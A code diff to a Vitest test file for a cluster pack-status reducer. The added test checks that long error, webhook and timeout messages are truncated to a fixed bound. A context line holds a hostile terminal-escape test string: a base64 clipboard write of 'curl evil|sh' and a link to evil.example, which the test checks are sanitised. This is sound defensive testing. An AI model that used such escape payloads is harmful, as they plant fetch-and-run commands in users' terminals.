@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { ObjectRef } from '../shared/refs.js';
 import { initialPackStatus, reducePackStatus, type PackEvent, type PackStatus } from './pack-status.js';
+import { KEPT_TEXT_MAX } from '../shared/kept-text.js';
 import { MAX_RUNS } from './revision-runs.js';
 import type { ResourceEvaluation } from './resource-state.js';
 
@@ -76,6 +77,55 @@ describe('reducePackStatus', () => {
       'exited with code 1: ]52;c;Y3VybCBldmlsfHNo[2J]8;;https://evil.exampleclick]8;;',
     );
     expect(JSON.stringify(s)).not.toMatch(/\\u001b|\\u0007|\u202e/);
+  });
+
+  it("keeps at most KEPT_TEXT_MAX characters of each of a cluster's texts, marked as an agent's are", () => {
+    // A condition message or a webhook's refusal is as long as the object that holds it (up to 1.5 MiB), a
+    // chart's failure output has no bound: a cluster the hub drives is held to what an agent may send.
+    const long = (what: string) => `${what}: ${'x'.repeat(200 * 1024)}`;
+    const marked = (text: string | undefined, what: string) => {
+      expect(text).toHaveLength(KEPT_TEXT_MAX);
+      expect(text).toMatch(new RegExp(`^${what}: x+…\\[\\d+ more characters cut by the hub\\]$`, 'u'));
+    };
+    const failed = run([
+      ...installToGreen,
+      { type: 'ResourceEvaluated', time: t(5), ref: grafana, evaluation: ev('Failed', 'Error', long('OOM')) },
+    ]);
+    expect(failed.phase).toBe('failed');
+    marked(failed.message, 'Deployment monitoring/grafana: OOM');
+    marked(failed.resources[1]?.evaluation.message, 'Deployment monitoring/grafana: OOM');
+    marked(failed.transitions.at(-1)?.message, 'Deployment monitoring/grafana: OOM');
+    const rejected = run([
+      { type: 'StageChanged', time: t(1), stage: { type: 'ApplyFailed', error: long('admission webhook') } },
+    ]);
+    expect(rejected.stage.type === 'ApplyFailed' ? rejected.stage.error : undefined).toHaveLength(
+      KEPT_TEXT_MAX,
+    );
+    marked(rejected.message, 'apply rejected: admission webhook');
+    // A timeout lists five resources' messages: each kept at the bound, and the pack's message too.
+    const refs = [1, 2, 3, 4, 5].map((i) => ({ ...config, name: `c${String(i)}` }));
+    const timedOut = run([
+      { type: 'StageChanged', time: t(1), stage: { type: 'Applying' } },
+      { type: 'InventoryChanged', time: t(1), resources: refs },
+      { type: 'StageChanged', time: t(1), stage: { type: 'Applied' } },
+      ...refs.map((ref): PackEvent => ({
+        type: 'ResourceEvaluated',
+        time: t(2),
+        ref,
+        evaluation: { state: 'Progressing', reason: 'Waiting', message: long('waiting') },
+      })),
+      { type: 'TimedOut', time: t(9), timeout: { deadline: t(9) } },
+    ]);
+    expect(timedOut.reason).toBe('TimedOut');
+    marked(timedOut.message, `timed out \\(deadline ${t(9)}\\); still waiting for: waiting`);
+    // Text that fits is kept as it came: the same status when nothing changed.
+    const again = reducePackStatus(failed, {
+      type: 'ResourceEvaluated',
+      time: t(6),
+      ref: grafana,
+      evaluation: ev('Failed', 'Error', long('OOM')),
+    });
+    expect(again).toBe(failed);
   });
 
   it('follows an install from gray through blue to green, with times and transitions', () => {
